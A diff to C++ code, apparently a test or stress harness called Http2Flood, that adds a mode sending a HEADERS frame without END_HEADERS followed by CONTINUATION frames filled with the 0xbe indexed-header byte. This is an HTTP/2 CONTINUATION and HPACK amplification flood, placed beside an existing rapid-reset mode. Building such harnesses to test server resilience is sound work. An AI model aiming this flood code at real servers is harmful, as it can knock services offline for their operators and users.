@@ -18,7 +18,13 @@ constexpr char kData = 0;
 constexpr char kHeaders = 1;
 constexpr char kRstStream = 3;
 constexpr char kSettings = 4;
+constexpr char kContinuation = 9;
 constexpr char kEndHeaders = 4;
+// "a: b", which becomes the first entry of the dynamic table: 0xbe stands for it (RFC 7541).
+constexpr const char* kIndexedField =
+    "\x40\x01"
+    "a\x01"
+    "b";
 // Streams in one write.
 constexpr std::size_t kBatch = 200;
 
@@ -67,6 +73,11 @@ std::size_t Http2Flood::Send(std::size_t streams) {
     if (sent >= streams) return sent;
     std::string batch;
     for (std::size_t i = 0; i < kBatch; ++i, next_stream_ += 2) {
+      if (kind_ == Kind::kHeaderBlock) {
+        batch += next_stream_ == 1 ? Frame(kHeaders, 0, 1, head_ + kIndexedField)
+                                   : Frame(kContinuation, 0, 1, std::string(kFields, '\xbe'));
+        continue;
+      }
       batch += Frame(kHeaders, kEndHeaders, next_stream_, head_);
       if (kind_ == Kind::kCallThenReset) {
         batch += Frame(kData, 0, next_stream_, std::string(5, '\0'));
